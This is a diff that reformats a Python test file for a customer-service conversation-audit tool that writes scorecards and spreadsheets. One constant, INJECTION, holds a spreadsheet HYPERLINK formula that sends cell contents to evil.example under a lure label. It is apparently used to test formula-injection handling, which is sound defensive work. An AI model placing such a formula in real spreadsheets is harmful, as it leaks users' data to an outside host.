@@ -41,9 +41,16 @@ PACK = {r.id: r for r in RULES}
 INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"点我查看订单")'
 
 
-def make(cid: str, agent: tuple[str, str, str], texts: list[tuple[str, str]], hits: list[tuple[str, int, str]],
-         *, started: str = "2026-11-21T10:05:00+08:00", complaint: bool = False,
-         customer: str = "要求型") -> ConversationResult:
+def make(
+    cid: str,
+    agent: tuple[str, str, str],
+    texts: list[tuple[str, str]],
+    hits: list[tuple[str, int, str]],
+    *,
+    started: str = "2026-11-21T10:05:00+08:00",
+    complaint: bool = False,
+    customer: str = "要求型",
+) -> ConversationResult:
     """Build a result: `hits` are (rule id, turn index, matched words) found in that turn's text."""
     turns = tuple(Turn(i, role, text) for i, (role, text) in enumerate(texts))
     findings = []
@@ -51,12 +58,24 @@ def make(cid: str, agent: tuple[str, str, str], texts: list[tuple[str, str]], hi
         rule = PACK[rid]
         text = turns[idx].text
         start = text.index(match)
-        findings.append(Finding(rid, rule.severity, rule.points, idx, turns[idx].role,
-                                (start, start + len(match)), match, f"{rule.title}：{match}",
-                                {"phrase": match}))
+        findings.append(
+            Finding(
+                rid,
+                rule.severity,
+                rule.points,
+                idx,
+                turns[idx].role,
+                (start, start + len(match)),
+                match,
+                f"{rule.title}：{match}",
+                {"phrase": match},
+            )
+        )
     failed = {f.rule_id for f in findings}
-    checks = {r.id: ("n/a" if r.id.startswith("complaint.") and not complaint
-                     else "fail" if r.id in failed else "pass") for r in RULES}
+    checks = {
+        r.id: ("n/a" if r.id.startswith("complaint.") and not complaint else "fail" if r.id in failed else "pass")
+        for r in RULES
+    }
     audit = Audit(tuple(findings), checks)
     conv = Conversation(cid, turns, "chat", agent[0], agent[1], agent[2], started, source="day.jsonl", line=1)
     tag = ComplaintTag("物流配送", 0.9 if complaint else 0.1, False, complaint, customer)
@@ -69,18 +88,51 @@ LI = ("A031", "李强", "售后二组")
 
 def day_of_results() -> list[ConversationResult]:
     return [
-        make("C1", WANG, [("agent", "您好，请问有什么可以帮您？"), ("customer", "我的快递三天没动了"),
-                          ("agent", "你把单号发我，我查一下。"), ("customer", "JD0000000001"),
-                          ("agent", "好的。")],
-             [("must.nin", 2, "你"), ("must.goodbye", 4, "好的。")]),
-        make("C2", WANG, [("agent", "您好，请问有什么可以帮您？"), ("customer", "你们这什么服务，我要投诉！"),
-                          ("agent", "这个不是我受理的，我不清楚，您拨打其他电话问问。")],
-             [("dont.blame_shift", 2, "不是我受理的")], complaint=True, customer="激动型"),
-        make("C3", LI, [("agent", "您好，很高兴为您服务。"), ("customer", INJECTION),
-                        ("agent", INJECTION + " 这种链接请不要点，急什么。")],
-             [("dont.harsh", 2, "急什么")], started="2026-11-21T15:40:00+08:00"),
-        make("C4", LI, [("agent", "您好，请问有什么可以帮您？"), ("customer", "发票怎么开？"),
-                        ("agent", "请您在订单详情页申请，感谢您的耐心，再见！")], []),
+        make(
+            "C1",
+            WANG,
+            [
+                ("agent", "您好，请问有什么可以帮您？"),
+                ("customer", "我的快递三天没动了"),
+                ("agent", "你把单号发我，我查一下。"),
+                ("customer", "JD0000000001"),
+                ("agent", "好的。"),
+            ],
+            [("must.nin", 2, "你"), ("must.goodbye", 4, "好的。")],
+        ),
+        make(
+            "C2",
+            WANG,
+            [
+                ("agent", "您好，请问有什么可以帮您？"),
+                ("customer", "你们这什么服务，我要投诉！"),
+                ("agent", "这个不是我受理的，我不清楚，您拨打其他电话问问。"),
+            ],
+            [("dont.blame_shift", 2, "不是我受理的")],
+            complaint=True,
+            customer="激动型",
+        ),
+        make(
+            "C3",
+            LI,
+            [
+                ("agent", "您好，很高兴为您服务。"),
+                ("customer", INJECTION),
+                ("agent", INJECTION + " 这种链接请不要点，急什么。"),
+            ],
+            [("dont.harsh", 2, "急什么")],
+            started="2026-11-21T15:40:00+08:00",
+        ),
+        make(
+            "C4",
+            LI,
+            [
+                ("agent", "您好，请问有什么可以帮您？"),
+                ("customer", "发票怎么开？"),
+                ("agent", "请您在订单详情页申请，感谢您的耐心，再见！"),
+            ],
+            [],
+        ),
     ]
 
 
@@ -183,8 +235,22 @@ def test_jsonl_csv_and_parquet_come_from_the_same_rows(out):
     lines = [json.loads(x) for x in (outdir / "findings.jsonl").read_text(encoding="utf-8").splitlines()]
     assert len(lines) == 4
     first = lines[0]
-    assert {"conversation_id", "agent_id", "team", "channel", "day", "rule_id", "severity", "points",
-            "turn_index", "role", "span", "match", "message", "evidence"} <= set(first)
+    assert {
+        "conversation_id",
+        "agent_id",
+        "team",
+        "channel",
+        "day",
+        "rule_id",
+        "severity",
+        "points",
+        "turn_index",
+        "role",
+        "span",
+        "match",
+        "message",
+        "evidence",
+    } <= set(first)
     assert (first["conversation_id"], first["day"], first["span"]) == ("C1", "2026-11-21", [0, 1])
     assert not (outdir / "results.jsonl").exists()  # the pipeline writes that one
     with open(outdir / "findings.csv", encoding="utf-8-sig", newline="") as fh:
@@ -223,8 +289,9 @@ def write_book(book: ScorecardWriter, results: list) -> None:
 
 
 def test_a_full_sheet_continues_on_a_numbered_sheet_with_working_links(tmp_path):
-    results = [make(f"C{i}", WANG, [("agent", "你好"), ("customer", "在吗")], [("must.nin", 0, "你")])
-               for i in range(7)]
+    results = [
+        make(f"C{i}", WANG, [("agent", "你好"), ("customer", "在吗")], [("must.nin", 0, "你")]) for i in range(7)
+    ]
     path = tmp_path / "small.xlsx"
     write_book(ScorecardWriter(path, RULES, POLICY, max_rows=4), results)  # header + 3 rows per sheet
     wb = openpyxl.load_workbook(path)
@@ -315,9 +382,15 @@ def test_four_alike_flags_an_agent_who_slips_in_busy_hours_and_says_when_data_is
     for hour, n in ((10, 6), (11, 2), (12, 3), (14, 1), (15, 1), (16, 1)):
         for k in range(n):
             busy = hour < 14
-            results.append(make(f"W{hour}-{k}", WANG, harsh if busy else clean,
-                                [("dont.harsh", 1, "急什么")] if busy else [],
-                                started=f"2026-11-21T{hour:02d}:{k:02d}:00+08:00"))
+            results.append(
+                make(
+                    f"W{hour}-{k}",
+                    WANG,
+                    harsh if busy else clean,
+                    [("dont.harsh", 1, "急什么")] if busy else [],
+                    started=f"2026-11-21T{hour:02d}:{k:02d}:00+08:00",
+                )
+            )
     results += [make("L1", LI, clean, []), make("L2", LI, clean, [], customer="激动型")]
     agents = {a["agent_id"]: a for a in aggregate(results).agents}
     wang, li = agents["A023"], agents["A031"]
